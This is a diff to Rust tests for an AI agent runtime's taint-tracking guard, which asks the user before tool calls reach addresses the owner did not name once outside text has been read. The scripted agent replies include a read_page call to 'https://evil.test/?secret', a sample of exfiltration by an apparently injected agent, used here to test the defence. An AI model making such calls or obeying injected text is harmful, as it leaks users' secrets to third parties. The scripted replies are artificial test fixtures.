@@ -96,12 +96,12 @@ async fn a_yes_runs_the_call_and_the_turn_goes_on() {
 #[tokio::test]
 async fn without_foreign_text_nobody_is_asked_and_the_owners_rules_decide_with_it() {
     let rules = ["", "[policy]\nallow = [{ tool = \"send_mail\", destination = \"eve@example.com\" }]\n"];
-    for (rules, first) in rules.into_iter().zip(["get_local_time", "read_page"]) {
+    for ((rules, first), class) in rules.into_iter().zip(["get_local_time", "read_page"]).zip([ToolClass::Execute, ToolClass::Send]) {
         let script = OBEDIENT.replace("read_page", first);
         let mut bench = Bench::new(&script).await;
         bench.config.agent.mode = "developer".into();
         bench.config.policy = limpid_runtime::Config::parse(rules, "limpid.toml").unwrap().policy;
-        let (page, mail) = (EffectTool::outside("read_page"), EffectTool::new("send_mail", ToolClass::Send));
+        let (page, mail) = (EffectTool::outside("read_page"), EffectTool::new("send_mail", class));
         let agent = agent(&bench, &[&page, &mail]);
         assert_eq!(answering(&agent, "go", ApprovalAnswer::No).await, Vec::<String>::new());
         assert_eq!(mail.runs(), 1);
@@ -165,15 +165,16 @@ async fn a_mode_of_the_owners_brings_its_own_policy() {
     assert!(sent.iter().all(|name| name.starts_with("get_")), "{sent:?}");
 }
 
-// SEC-005
+// SEC-005 SEC-067
 #[tokio::test]
-async fn in_a_tainted_turn_a_page_is_read_only_from_a_host_that_the_owner_named() {
+async fn in_a_tainted_turn_a_page_is_read_only_at_an_address_that_the_owner_typed() {
     let script = r#"
 [[reply]]
 calls = [{ id = "a", name = "read_page", arguments = { to = "https://good.example/" } }]
 [[reply]]
 calls = [
-  { id = "b", name = "read_page", arguments = { to = "https://good.example/more" } },
+  { id = "b", name = "read_page", arguments = { to = "https://good.example/more?a=1" } },
+  { id = "d", name = "read_page", arguments = { to = "https://good.example/more?a=2" } },
   { id = "c", name = "read_page", arguments = { to = "https://evil.test/?secret" } },
 ]
 [[reply]]
@@ -182,10 +183,13 @@ text = "Done."
     let bench = Bench::new(script).await;
     let page = EffectTool::outside("read_page");
     let agent = agent(&bench, &[&page]);
-    let questions = answering(&agent, "what says good.example?", ApprovalAnswer::No).await;
+    let questions = answering(&agent, "what says https://good.example/more?a=1 of evil.test?", ApprovalAnswer::No).await;
     assert_eq!(
         questions,
-        ["read_page to evil.test: text from outside was read, and neither you nor your rules named evil.test"]
+        [
+            "read_page to good.example: text from outside was read, and neither you nor your rules named this address of good.example",
+            "read_page to evil.test: text from outside was read, and neither you nor your rules named this address of evil.test",
+        ]
     );
     assert_eq!(page.runs(), 2);
     assert_eq!(page.trust, Trust::Outside);
@@ -261,7 +265,7 @@ text = "Sent."
 "#;
     let mut bench = Bench::new(script).await;
     bench.config.agent.mode = "developer".into();
-    let (page, mail) = (EffectTool::outside("read_page"), EffectTool::new("send_mail", ToolClass::Send));
+    let (page, mail) = (EffectTool::outside("read_page"), EffectTool::new("send_mail", ToolClass::Execute));
     let agent = agent(&bench, &[&page, &mail]);
     all(agent.chat(last("read the page")).await.unwrap()).await;
     let reply = agent.command(&limpid_runtime::ConversationChoice::Last, "/clean").await.unwrap();
